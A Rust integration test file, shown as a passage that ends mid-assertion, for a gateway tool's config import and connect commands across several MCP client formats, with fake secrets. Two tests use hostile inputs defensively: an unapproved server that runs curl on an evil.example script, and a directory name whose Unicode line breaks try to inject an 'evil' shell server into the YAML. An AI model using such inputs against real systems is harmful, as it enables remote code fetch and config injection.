//! `mcpgwctl import` and `connect` on real-shaped client configs, in a home and config dir of
//! the test's own (`HOME`, `XDG_CONFIG_HOME`): every client format, secrets kept out of
//! everything printed and put in a private env file, duplicates, the written config loading
//! (and serving, through the shim), and `connect` undone byte for byte.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::{Value, json};

use crate::harness::*;

const GH_TOKEN: &str = "ghp_0123456789abcdefghijABCDEFGHIJKL";
const TRACKER_KEY: &str = "sk-live-Zq81vXn2Lm4Kp7Rt9Wy3";
const DB_PASSWORD: &str = "hunter2-db-pass";
/// Secrets no name gives away (see `hidden_secrets_are_moved_too`).
const HIDDEN: &[&str] = &[
    "pg-admin-pw-7731",
    "docker-e-api-value",
    "ghp_userinfo0123456789abcdefABCDEF",
    "MzE0ZjQ1YjgtNTk2Zi00ZDU3LWI3OTItYzQ2ZGFlNDJhZTc5",
    "mixed-pw-9931",
    "mysql-pwd-value",
    "https-sentry-dsn-key",
];

/// A test's world: its home, its project directory (the current directory of mcpgwctl).
struct World {
    env: Env,
}

impl World {
    fn new() -> Self {
        let env = Env::new();
        std::fs::create_dir_all(env.path("project")).unwrap();
        World { env }
    }

    fn home(&self, rel: &str) -> PathBuf {
        self.env.path("home").join(rel)
    }

    fn project(&self, rel: &str) -> PathBuf {
        match rel {
            "" => self.env.path("project"),
            rel => self.env.path("project").join(rel),
        }
    }

    /// `$XDG_CONFIG_HOME/<rel>`.
    fn config_home(&self, rel: &str) -> PathBuf {
        self.env.path("config").join(rel)
    }

    fn user_config(&self) -> PathBuf {
        self.env.user_config_path()
    }

    fn env_file(&self) -> PathBuf {
        self.config_home("mcpgw/mcpgw.env")
    }

    fn write(&self, path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    /// mcpgwctl in the project directory.
    fn ctl(&self, args: &[&str]) -> Output {
        self.ctl_with(args, &[])
    }

    /// mcpgwctl in the project directory, with these variables set too.
    fn ctl_with(&self, args: &[&str], vars: &[(&str, &str)]) -> Output {
        self.env
            .command(&bin("mcpgwctl"))
            .current_dir(self.project(""))
            .envs(vars.iter().copied())
            .args(args)
            .output()
            .expect("run mcpgwctl")
    }

    /// A verb that must succeed; its stdout. Nothing it prints holds a secret.
    fn ok(&self, args: &[&str]) -> String {
        self.ok_with(args, &[])
    }

    /// [`World::ok`] with these variables set.
    fn ok_with(&self, args: &[&str], vars: &[(&str, &str)]) -> String {
        let out = self.ctl_with(args, vars);
        let (stdout, stderr) = texts(&out);
        assert_eq!(
            out.status.code(),
            Some(0),
            "mcpgwctl {args:?}:\n{stdout}{stderr}"
        );
        no_secret(&stdout);
        no_secret(&stderr);
        stdout
    }

    /// A verb that must fail with exit code 1; its stderr.
    fn fails(&self, args: &[&str]) -> String {
        let out = self.ctl(args);
        let (stdout, stderr) = texts(&out);
        assert_eq!(
            out.status.code(),
            Some(1),
            "mcpgwctl {args:?}:\n{stdout}{stderr}"
        );
        no_secret(&stdout);
        no_secret(&stderr);
        stderr
    }

    fn json(&self, args: &[&str]) -> Value {
        let mut args = args.to_vec();
        args.push("--json");
        let text = self.ok(&args);
        serde_json::from_str(&text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
    }

    /// The servers `mcpgwctl check` finds in the user's config, with whether each is enabled.
    fn checked_servers(&self) -> Vec<(String, bool)> {
        let check = self.json(&["check"]);
        assert_eq!(check["ok"], true, "{check}");
        check["servers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                (
                    s["name"].as_str().unwrap().to_owned(),
                    s["enabled"].as_bool().unwrap(),
                )
            })
            .collect()
    }

    /// The env file's text, after checking it is private.
    fn secrets(&self) -> String {
        let path = self.env_file();
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", path.display());
        std::fs::read_to_string(path).unwrap()
    }
}

fn texts(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn no_secret(text: &str) {
    for secret in [GH_TOKEN, TRACKER_KEY, DB_PASSWORD].iter().chain(HIDDEN) {
        assert!(!text.contains(secret), "a secret was shown:\n{text}");
    }
}

fn claude_json(project: &Path) -> String {
    serde_json::to_string_pretty(&json!({
        "numStartups": 41,
        "installMethod": "npm",
        "mcpServers": {
            "github": {
                "type": "stdio",
                "command": "npx",
                "args": ["-y", "@modelcontextprotocol/server-github"],
                "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": GH_TOKEN}
            },
            "tracker": {
                "type": "http",
                "url": "https://tracker.example.com/mcp",
                "headers": {"Authorization": format!("Bearer {TRACKER_KEY}")}
            },
            "events": {"type": "sse", "url": "https://events.example.com/sse"},
            "socket": {"type": "ws", "url": "wss://ws.example.com"}
        },
        "projects": {
            project.display().to_string(): {
                "allowedTools": [],
                "enabledMcpjsonServers": ["notes"],
                "mcpServers": {
                    "db": {"command": "db-mcp", "args": [format!("postgres://app:{DB_PASSWORD}@localhost/app")]}
                }
            },
            "/somewhere/else": {"mcpServers": {"other": {"command": "other-mcp"}}}
        }
    }))
    .unwrap()
        + "\n"
}

#[test]
fn claude_code_secrets_go_to_a_private_env_file_and_never_to_output() {
    let world = World::new();
    world.write(
        &world.home(".claude.json"),
        &claude_json(&world.project("")),
    );
    world.write(
        &world.project(".mcp.json"),
        r#"{"mcpServers": {
  "notes": {"command": "node", "args": ["./tools/notes.js"], "env": {"NOTES_DIR": "${NOTES_DIR:-./notes}"}}
}}"#,
    );

    // Looking writes nothing, and shows `${VAR}` where the secrets are.
    let shown = world.ok(&["import", "--from", "claude-code", "--project"]);
    assert!(
        shown.contains("GITHUB_PERSONAL_ACCESS_TOKEN: \"${GITHUB_PERSONAL_ACCESS_TOKEN}\""),
        "{shown}"
    );
    assert!(
        shown.contains("Authorization: \"Bearer ${TRACKER_AUTHORIZATION}\""),
        "{shown}"
    );
    assert!(
        shown.contains("postgres://app:${DB_PASSWORD}@localhost/app"),
        "{shown}"
    );
    assert!(shown.contains("# 3 secrets would go to"), "{shown}");
    assert!(shown.contains("not imported: `socket`"), "{shown}");
    assert!(!world.user_config().exists() && !world.env_file().exists());

    let report = world.json(&["import", "--from", "claude-code", "--project"]);
    let added: Vec<&str> = report["added"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert_eq!(added, ["events", "github", "tracker", "db", "notes"]);
    assert_eq!(report["secrets"], 3);
    assert_eq!(report["written"], false);

    let written = world.ok(&["import", "--from", "claude-code", "--project", "--write"]);
    assert!(written.contains("added 5 servers to"), "{written}");
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    no_secret(&yaml);
    assert!(yaml.contains("env_file: mcpgw.env"), "{yaml}");
    let secrets = world.secrets();
    for secret in [GH_TOKEN, TRACKER_KEY, DB_PASSWORD] {
        assert!(secrets.contains(secret), "{secrets}");
    }
    // The project's servers run in the project, where the client ran them.
    assert!(
        yaml.contains(&format!("cwd: \"{}\"", world.project("").display())),
        "{yaml}"
    );
    assert_eq!(
        world.checked_servers(),
        [
            ("db".to_owned(), true),
            ("events".to_owned(), true),
            ("github".to_owned(), true),
            ("notes".to_owned(), true),
            ("tracker".to_owned(), true)
        ]
    );

    // Again: everything is there already; nothing is written, no backup made.
    let again = world.ok(&["import", "--from", "claude-code", "--project", "--write"]);
    assert!(again.contains("nothing to import"), "{again}");
    assert_eq!(std::fs::read_to_string(world.user_config()).unwrap(), yaml);
    assert_eq!(world.secrets(), secrets);
    let backups = std::fs::read_dir(world.config_home("mcpgw"))
        .unwrap()
        .count();
    assert_eq!(backups, 2, "gateway.yaml and mcpgw.env only");
}

#[test]
fn duplicates_against_the_users_config_and_its_comments_kept() {
    let world = World::new();
    let mine = "# my gateway, my comments\nidle_timeout: 60\n\nservers:\n    # the one I use\n    github:\n        command: npx\n        args: [\"-y\", \"@modelcontextprotocol/server-github\"]\n    fs:\n        command: my-fs\n    files:\n        command: npx\n        args: [\"-y\", \"@modelcontextprotocol/server-filesystem\", \"/srv\"]\n\n# roles come last\nroles:\n  all: null\n";
    world.write(&world.user_config(), mine);
    world.write(
        &world.config_home("Claude/claude_desktop_config.json"),
        r#"{
  "mcpServers": {
    "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]},
    "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/srv"]},
    "memory": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"]},
    "my tools": {"command": "tools-mcp"}
  },
  "globalShortcut": "Ctrl+Space"
}"#,
    );
    let out = world.ok(&["import", "--from", "claude-desktop", "--write"]);
    assert!(
        out.contains("skipped `github` from") && out.contains(": already in gateway.yaml\n"),
        "{out}"
    );
    assert!(out.contains("already in gateway.yaml as `files`"), "{out}");
    assert!(
        out.contains("`my tools`") && out.contains("imported as `my-tools`"),
        "{out}"
    );
    assert!(out.contains("added 2 servers"), "{out}");

    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    // The user's text is all there, the new entries inside its servers block, indented alike.
    assert!(
        yaml.starts_with(
            "# my gateway, my comments\nidle_timeout: 60\n\nservers:\n    # the one I use\n"
        ),
        "{yaml}"
    );
    assert!(
        yaml.contains("\n    memory:\n      command: \"npx\"\n"),
        "{yaml}"
    );
    assert!(
        yaml.ends_with("\n# roles come last\nroles:\n  all: null\n"),
        "{yaml}"
    );
    let servers: Vec<String> = world
        .checked_servers()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(servers, ["files", "fs", "github", "memory", "my-tools"]);

    // The old bytes are kept beside it.
    let backup = std::fs::read_dir(world.config_home("mcpgw"))
        .unwrap()
        .flatten()
        .find(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("gateway.yaml.bak-")
        })
        .expect("a backup");
    assert_eq!(std::fs::read_to_string(backup.path()).unwrap(), mine);

    // A name taken by another definition: imported under a new name, not over the user's.
    world.write(
        &world.home(".cursor/mcp.json"),
        r#"{"mcpServers": {"fs": {"command": "cursor-fs"}}}"#,
    );
    let out = world.ok(&["import", "--from", "cursor", "--write"]);
    assert!(
        out.contains("`fs` from ~/.cursor/mcp.json (user) is imported as `fs-cursor`"),
        "{out}"
    );
    let servers: Vec<String> = world
        .checked_servers()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert!(servers.contains(&"fs-cursor".to_owned()), "{servers:?}");
}

#[test]
fn cursor_configs_user_and_project() {
    let world = World::new();
    world.write(
        &world.home(".cursor/mcp.json"),
        &format!(
            r#"{{"mcpServers": {{
  "context7": {{"url": "https://mcp.context7.com/mcp", "headers": {{"CONTEXT7_API_KEY": "{TRACKER_KEY}"}}}},
  "legacy": {{"url": "https://legacy.example.com/sse"}},
  "home": {{"command": "ls-mcp", "args": ["${{userHome}}/docs"], "env": {{"FROM_ENV": "${{env:SHELL}}"}}}}
}}}}"#
        ),
    );
    world.write(
        &world.project(".cursor/mcp.json"),
        r#"{"mcpServers": {"sqlite": {"command": "uvx", "args": ["mcp-server-sqlite", "--db-path", "${workspaceFolder}/app.db"]}}}"#,
    );
    world.ok(&["import", "--from", "cursor", "--project", "--write"]);
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(
        yaml.contains("CONTEXT7_API_KEY: \"${CONTEXT7_API_KEY}\""),
        "{yaml}"
    );
    assert!(
        yaml.contains("url: \"https://legacy.example.com/sse\"\n    transport: sse\n"),
        "{yaml}"
    );
    assert!(yaml.contains("args: [\"${HOME}/docs\"]"), "{yaml}");
    assert!(yaml.contains("FROM_ENV: \"${SHELL}\""), "{yaml}");
    let db = format!("{}/app.db", world.project("").display());
    assert!(yaml.contains(&db), "{yaml}");
    assert!(world.secrets().contains(TRACKER_KEY));
    let servers: Vec<String> = world
        .checked_servers()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(servers, ["context7", "home", "legacy", "sqlite"]);
}

const VSCODE_PROJECT: &str = r#"{
  // Prompted for when the server starts.
  "inputs": [
    {
      "type": "promptString",
      "id": "perplexity-key",
      "description": "Perplexity API Key",
      "password": true
    }
  ],
  "servers": {
    "perplexity": {
      "type": "stdio",
      "command": "npx",
      "args": ["-y", "server-perplexity-ask"],
      "env": {
        "PERPLEXITY_API_KEY": "${input:perplexity-key}"
      }
    },
    "fetch": {
      "type": "stdio",
      "command": "uvx",
      "args": ["mcp-server-fetch"],
      "envFile": "${workspaceFolder}/.env", // its secrets
    },
    "github": {
      "type": "http",
      "url": "https://api.githubcopilot.com/mcp/"
    },
  }
}
"#;

#[test]
fn vscode_inputs_become_variables_to_fill_in() {
    let world = World::new();
    world.write(&world.project(".vscode/mcp.json"), VSCODE_PROJECT);
    // A project's .env, as VS Code reads it (not private: it is the project's).
    world.write(
        &world.project(".env"),
        &format!("FETCH_TOKEN={DB_PASSWORD}\n# a comment\nUSER_AGENT=mcp\n"),
    );
    world.write(
        &world.config_home("Code/User/mcp.json"),
        r#"{"servers": {"time": {"type": "stdio", "command": "uvx", "args": ["mcp-server-time"]}}}"#,
    );
    let out = world.ok(&["import", "--from", "vscode", "--project", "--write"]);
    assert!(out.contains("fill in `PERPLEXITY_KEY`"), "{out}");
    assert!(out.contains("Perplexity API Key"), "{out}");
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(
        yaml.contains("PERPLEXITY_API_KEY: \"${PERPLEXITY_KEY}\""),
        "{yaml}"
    );
    assert!(yaml.contains("FETCH_TOKEN: \"${FETCH_TOKEN}\""), "{yaml}");
    assert!(
        yaml.contains("USER_AGENT: \"${FETCH_USER_AGENT}\""),
        "{yaml}"
    );
    let secrets = world.secrets();
    assert!(secrets.contains(DB_PASSWORD), "{secrets}");
    assert!(secrets.contains("# PERPLEXITY_KEY=\n"), "{secrets}");
    // Until it is filled in, the server that needs it is disabled; the others run.
    assert_eq!(
        world.checked_servers(),
        [
            ("fetch".to_owned(), true),
            ("github".to_owned(), true),
            ("perplexity".to_owned(), false),
            ("time".to_owned(), true)
        ]
    );
    let filled = secrets.replace("# PERPLEXITY_KEY=\n", "PERPLEXITY_KEY=pplx-filled-in\n");
    std::fs::write(world.env_file(), filled).unwrap();
    assert!(world.checked_servers().iter().all(|(_, enabled)| *enabled));
}

#[test]
fn codex_config_toml() {
    let world = World::new();
    world.write(
        &world.home(".codex/config.toml"),
        &format!(
            r#"model = "o4-mini"
approval_policy = "on-request"

# MCP servers
[mcp_servers.github]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-github"]
env_vars = ["GITHUB_HOST"]

[mcp_servers.github.env]
GITHUB_PERSONAL_ACCESS_TOKEN = "{GH_TOKEN}"

[mcp_servers.docs]
url = "https://docs.example.com/mcp"
bearer_token_env_var = "DOCS_TOKEN"
http_headers = {{ "X-Team" = "core" }}
tool_timeout_sec = 30
"#
        ),
    );
    let out = world.ok(&["import", "--from", "codex", "--write"]);
    assert!(
        out.contains("tool_timeout_sec"),
        "what is left out is said: {out}"
    );
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(yaml.contains("GITHUB_HOST: \"${GITHUB_HOST:-}\""), "{yaml}");
    assert!(
        yaml.contains("Authorization: \"Bearer ${DOCS_TOKEN}\""),
        "{yaml}"
    );
    assert!(yaml.contains("X-Team: \"core\""), "{yaml}");
    assert!(world.secrets().contains(GH_TOKEN));
    // DOCS_TOKEN comes from the daemon's environment, which has none here.
    assert_eq!(
        world.checked_servers(),
        [("docs".to_owned(), false), ("github".to_owned(), true)]
    );
}

/// `connect` refuses until the servers are imported, then replaces them with the gateway;
/// `--undo` gives the file back byte for byte.
fn connect_round_trip(world: &World, client: &str, file: &Path, check: impl Fn(&str)) {
    let original = std::fs::read(file).unwrap();
    let refused = world.fails(&["connect", client]);
    assert!(
        refused.contains(&format!("mcpgwctl import --from {client} --write")),
        "{refused}"
    );
    assert_eq!(std::fs::read(file).unwrap(), original);

    world.ok(&["import", "--from", client, "--write"]);
    let mode = std::fs::metadata(file).unwrap().permissions().mode();
    let out = world.ok(&["connect", client, "--role", "dev"]);
    assert!(out.contains("--undo"), "{out}");
    // A running client may write its old servers back from memory: the user is told.
    assert!(out.contains("quit"), "{out}");
    let connected = std::fs::read_to_string(file).unwrap();
    assert!(
        connected.contains(&bin("mcpgw-shim").display().to_string()),
        "{connected}"
    );
    assert!(
        connected.contains("--role") && connected.contains("dev"),
        "{connected}"
    );
    check(&connected);
    assert_eq!(std::fs::metadata(file).unwrap().permissions().mode(), mode);
    let backup = PathBuf::from(format!("{}.mcpgw-backup", file.display()));
    assert_eq!(std::fs::read(&backup).unwrap(), original);

    let again = world.fails(&["connect", client]);
    assert!(again.contains("connected already"), "{again}");

    world.ok(&["connect", client, "--undo"]);
    assert_eq!(
        std::fs::read(file).unwrap(),
        original,
        "restored byte for byte"
    );
    assert!(!backup.exists());
    let none = world.fails(&["connect", client, "--undo"]);
    assert!(none.contains("nothing to undo"), "{none}");
}

#[test]
fn connect_claude_code_and_undo() {
    let world = World::new();
    let file = world.home(".claude.json");
    world.write(&file, &claude_json(&world.project("")));
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    connect_round_trip(&world, "claude-code", &file, |text| {
        let value: Value = serde_json::from_str(text).unwrap();
        let servers = value["mcpServers"].as_object().unwrap();
        let names: Vec<&String> = servers.keys().collect();
        // `socket` cannot be imported: the client keeps it.
        assert_eq!(names, ["mcpgw", "socket"]);
        assert_eq!(value["numStartups"], 41);
        assert_eq!(value["mcpServers"]["mcpgw"]["type"], "stdio");
        // The local scope is the project's: left alone.
        assert!(text.contains(DB_PASSWORD));
    });
}

#[test]
fn connect_vscode_codex_cursor_and_desktop_and_undo() {
    let world = World::new();
    let vscode = world.config_home("Code/User/mcp.json");
    let user_vscode = VSCODE_PROJECT.replace("\"envFile\": \"${workspaceFolder}/.env\", ", "");
    world.write(&vscode, &user_vscode);
    connect_round_trip(&world, "vscode", &vscode, |text| {
        assert!(
            text.starts_with("{\n  // Prompted for when the server starts.\n  \"inputs\""),
            "{text}"
        );
        assert!(
            text.contains("\"mcpgw\": {\n      \"type\": \"stdio\""),
            "{text}"
        );
        assert!(
            !text.contains("server-perplexity-ask") && !text.contains("mcp-server-fetch"),
            "{text}"
        );
    });

    let codex = world.home(".codex/config.toml");
    world.write(
        &codex,
        "# mine\nmodel = \"o3\"\n\n[mcp_servers.time]\ncommand = \"uvx\"\nargs = [\"mcp-server-time\"]\n\n[profiles.quick]\nmodel = \"mini\"\n",
    );
    connect_round_trip(&world, "codex", &codex, |text| {
        assert!(text.starts_with("# mine\nmodel = \"o3\"\n"), "{text}");
        assert!(
            text.contains("[profiles.quick]\nmodel = \"mini\"\n"),
            "{text}"
        );
        assert!(
            text.contains("[mcp_servers.mcpgw]") && !text.contains("mcp-server-time"),
            "{text}"
        );
    });

    let cursor = world.home(".cursor/mcp.json");
    world.write(&cursor, "{\n  \"mcpServers\": {\n    \"git\": {\"command\": \"uvx\", \"args\": [\"mcp-server-git\"]}\n  }\n}\n");
    connect_round_trip(&world, "cursor", &cursor, |text| {
        assert!(
            !text.contains("\"type\""),
            "Cursor's entries have no type: {text}"
        );
    });

    let desktop = world.config_home("Claude/claude_desktop_config.json");
    world.write(&desktop, "{\"mcpServers\": {\"memory\": {\"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-memory\"]}}, \"globalShortcut\": \"\"}");
    connect_round_trip(&world, "claude-desktop", &desktop, |text| {
        assert!(text.contains("\"globalShortcut\": \"\""), "{text}");
    });
}

/// The whole way: a Claude Code config whose server is the fixture, imported into the
/// gateway's config, served by the daemon (its secret from the env file reaching it), and the
/// client connected to the gateway calling the same tool through the shim.
#[tokio::test]
async fn an_imported_claude_code_server_is_served_through_the_shim() {
    let world = World::new();
    let env = &world.env;
    let fixture = fixture().display().to_string();
    world.write(
        &world.home(".claude.json"),
        &serde_json::to_string_pretty(&json!({
            "mcpServers": {
                "fixture": {
                    "type": "stdio",
                    "command": fixture,
                    "args": ["--marker", env.marker, "--name", "fixture"],
                    "env": {"API_TOKEN": GH_TOKEN}
                }
            }
        }))
        .unwrap(),
    );
    let config = env.config_path().display().to_string();
    world.ok(&["import", "--config", &config, "--write"]);
    let yaml = std::fs::read_to_string(env.config_path()).unwrap();
    no_secret(&yaml);

    let _daemon = env.daemon().await;
    let client = env.client(None).await;
    assert_eq!(
        client
            .call_text("fixture_echo", json!({"text": "imported"}))
            .await,
        "imported"
    );
    assert_eq!(
        client
            .call_text("fixture_env", json!({"name": "API_TOKEN"}))
            .await,
        GH_TOKEN,
        "the secret reaches the server from the env file"
    );
    client.close().await;

    // The client, connected, runs the shim with the config it was imported into.
    world.ok(&["connect", "claude-code", "--config", &config]);
    let connected: Value =
        serde_json::from_str(&std::fs::read_to_string(world.home(".claude.json")).unwrap())
            .unwrap();
    let entry = &connected["mcpServers"]["mcpgw"];
    assert_eq!(entry["command"], bin("mcpgw-shim").display().to_string());
    let args: Vec<&str> = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(args, ["--config", config.as_str()]);
    let through = env.shim_client(&args, &[]).await;
    assert_eq!(
        through
            .call_text("fixture_echo", json!({"text": "connected"}))
            .await,
        "connected"
    );
    through.close().await;
    let status = env.status_json().to_string();
    no_secret(&status);
    assert!(!env.daemon_log_contains(GH_TOKEN));
}

/// A cloned repository's gateway.yaml in the current directory is not the user's: import
/// writes to the user's own config (and its env file beside it, not into the repository),
/// and connect points the client at no `--config` the user did not name.
#[test]
fn the_current_directorys_gateway_yaml_is_never_used() {
    let world = World::new();
    let repo_config = "servers:\n  repo:\n    command: repo-mcp\n";
    world.write(&world.project("gateway.yaml"), repo_config);
    world.write(
        &world.home(".claude.json"),
        &serde_json::to_string(&json!({"mcpServers": {
            "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
                       "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": GH_TOKEN}}
        }}))
        .unwrap(),
    );
    let out = world.ok(&["import", "--from", "claude-code", "--write"]);
    assert!(out.contains("added 1 server to"), "{out}");
    assert_eq!(
        std::fs::read_to_string(world.project("gateway.yaml")).unwrap(),
        repo_config
    );
    assert!(!world.project("mcpgw.env").exists());
    assert!(world.secrets().contains(GH_TOKEN));
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(yaml.contains("github:"), "{yaml}");

    world.ok(&["connect", "claude-code"]);
    let connected: Value =
        serde_json::from_str(&std::fs::read_to_string(world.home(".claude.json")).unwrap())
            .unwrap();
    assert_eq!(connected["mcpServers"]["mcpgw"]["args"], json!([]));
}

/// A project's own config comes with the repository: it is read only with `--project`, and of
/// Claude Code's `.mcp.json` only the servers Claude Code was allowed to run there.
#[test]
fn project_configs_are_read_only_when_asked_and_as_approved() {
    let world = World::new();
    let project = world.project("").display().to_string();
    let claude = |settings: Value| {
        let mut file =
            json!({"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}});
        file["projects"] = json!({ project.clone(): settings });
        world.write(&world.home(".claude.json"), &file.to_string());
    };
    claude(json!({"enabledMcpjsonServers": ["approved"], "disabledMcpjsonServers": ["disabled"]}));
    world.write(
        &world.project(".mcp.json"),
        r#"{"mcpServers": {
  "approved": {"command": "approved-mcp"},
  "disabled": {"command": "disabled-mcp"},
  "unasked": {"command": "curl", "args": ["https://evil.example/x.sh"]}
}}"#,
    );
    world.write(
        &world.project(".vscode/mcp.json"),
        r#"{"servers": {"workspace": {"type": "stdio", "command": "ws-mcp"}}}"#,
    );
    let names = |report: &Value| -> Vec<String> {
        report["added"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["name"].as_str().unwrap().to_owned())
            .collect()
    };

    let user_only = world.json(&["import"]);
    assert_eq!(names(&user_only), ["time"]);
    let notes = user_only["notes"].to_string();
    assert!(
        notes.contains(".mcp.json")
            && notes.contains(".vscode/mcp.json")
            && notes.contains("--project"),
        "{notes}"
    );

    let with_project = world.json(&["import", "--project"]);
    assert_eq!(names(&with_project), ["time", "approved", "workspace"]);
    let notes = with_project["notes"].to_string();
    assert!(
        notes.contains("`disabled`") && notes.contains("disabledMcpjsonServers"),
        "{notes}"
    );
    assert!(
        notes.contains("`unasked`") && notes.contains("not approved"),
        "{notes}"
    );

    // Every server approved: all but the disabled one.
    claude(json!({"enableAllProjectMcpServers": true, "disabledMcpjsonServers": ["disabled"]}));
    let all = world.json(&["import", "--from", "claude-code", "--project"]);
    assert_eq!(names(&all), ["time", "approved", "unasked"]);

    // A file named is imported as it is: the user chose it.
    let named = world.json(&["import", ".mcp.json"]);
    assert_eq!(names(&named), ["approved", "disabled", "unasked"]);
}

/// YAML takes U+2028, U+2029 and U+0085 for line breaks: a project directory named to break
/// out of the `# from …` comment (or of a quoted string) adds no server of its own, and the
/// imported values read back exactly.
#[test]
fn line_breaks_yaml_knows_and_json_does_not_stay_inside_their_line() {
    let world = World::new();
    let evil = world
        .env
        .path("proj\u{2028}  evil:\u{2028}    command: sh\u{85}\u{2029}x");
    std::fs::create_dir_all(evil.join(".cursor")).unwrap();
    world.write(
        &evil.join(".cursor/mcp.json"),
        r#"{"mcpServers": {"fs": {"command": "fs-mcp", "args": ["a\u2028b\u0085c\u007f\u009b"]}}}"#,
    );
    let out = world
        .env
        .command(&bin("mcpgwctl"))
        .current_dir(&evil)
        .args(["import", "--from", "cursor", "--project", "--write"])
        .output()
        .unwrap();
    let (stdout, stderr) = texts(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    for shown in [&stdout, &stderr] {
        assert!(
            !shown.contains(['\u{2028}', '\u{2029}', '\u{85}']),
            "a line break reached the terminal: {shown:?}"
        );
    }
    let servers: Vec<String> = world
        .checked_servers()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(servers, ["fs"]);
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    let config = mcpgw::config::parse(&yaml, &world.user_config(), &|_| None).unwrap();
    let fs = &config.servers["fs"];
    assert_eq!(fs.args, ["a\u{2028}b\u{85}c\u{7f}\u{9b}"]);
    assert_eq!(fs.cwd.as_deref(), Some(evil.as_path()));
}

/// Servers that differ only in their environment (two accounts' tokens) are two servers:
/// both imported under their own names, and `connect` replaces both; the same server in
/// another client's file is skipped, saying where it came from.
#[test]
fn same_command_other_token_is_another_server() {
    let world = World::new();
    let github = |token: &str| {
        json!({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
               "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": token}})
    };
    world.write(
        &world.home(".claude.json"),
        &json!({"mcpServers": {"gh-personal": github(GH_TOKEN), "gh-work": github(TRACKER_KEY)}})
            .to_string(),
    );
    world.write(
        &world.home(".cursor/mcp.json"),
        &json!({"mcpServers": {"github": github(TRACKER_KEY)}}).to_string(),
    );
    let out = world.ok(&["import", "--write"]);
    assert!(out.contains("added 2 servers"), "{out}");
    assert!(
        out.contains("skipped `github` from ~/.cursor/mcp.json (user): the same command, arguments, environment and directory as `gh-work` from ~/.claude.json"),
        "{out}"
    );
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(
        yaml.contains("${GH_PERSONAL_GITHUB_PERSONAL_ACCESS_TOKEN}")
            && yaml.contains("${GH_WORK_GITHUB_PERSONAL_ACCESS_TOKEN}"),
        "{yaml}"
    );
    let secrets = world.secrets();
    assert!(
        secrets.contains(GH_TOKEN) && secrets.contains(TRACKER_KEY),
        "{secrets}"
    );

    // Both are in gateway.yaml: connect replaces both, and again nothing is imported twice.
    let again = world.ok(&["import"]);
    assert!(again.contains("nothing to import"), "{again}");
    let connected = world.ok(&["connect", "claude-code"]);
    assert!(
        connected.contains("in place of gh-personal, gh-work"),
        "{connected}"
    );
}

/// A new variable of the env file would win over the daemon's environment for every server
/// whose `${NAME}` names it: a name gateway.yaml (or another imported server) refers to, or
/// one set in the environment, is not given to a moved secret.
#[test]
fn new_variables_shadow_nothing_the_config_or_the_environment_has() {
    let world = World::new();
    world.write(
        &world.user_config(),
        "servers:\n  old:\n    command: old-mcp\n    env: {T: \"${GITHUB_PERSONAL_ACCESS_TOKEN}\"}\n",
    );
    world.write(
        &world.home(".claude.json"),
        &json!({"mcpServers": {
            "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
                       "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": GH_TOKEN}},
            "tracker": {"type": "http", "url": "https://tracker.example.com/mcp",
                        "headers": {"Authorization": format!("Bearer {TRACKER_KEY}")}},
            "uses": {"command": "uses-mcp", "env": {"K": "${GH2_API_KEY}"}},
            "gh2": {"command": "gh2", "args": ["--api-key", DB_PASSWORD]}
        }})
        .to_string(),
    );
    let vars = [("TRACKER_AUTHORIZATION", "the daemon's own")];
    world.ok_with(&["import", "--write"], &vars);
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    assert!(
        yaml.contains("GITHUB_PERSONAL_ACCESS_TOKEN: \"${GITHUB_PERSONAL_ACCESS_TOKEN_2}\""),
        "{yaml}"
    );
    assert!(
        yaml.contains("Authorization: \"Bearer ${TRACKER_AUTHORIZATION_2}\""),
        "{yaml}"
    );
    assert!(
        yaml.contains("\"--api-key\", \"${GH2_API_KEY_2}\""),
        "{yaml}"
    );
    assert!(
        yaml.contains("env: {T: \"${GITHUB_PERSONAL_ACCESS_TOKEN}\"}"),
        "{yaml}"
    );
    let secrets = world.secrets();
    assert!(
        secrets.contains("GITHUB_PERSONAL_ACCESS_TOKEN_2=")
            && secrets.contains("TRACKER_AUTHORIZATION_2=")
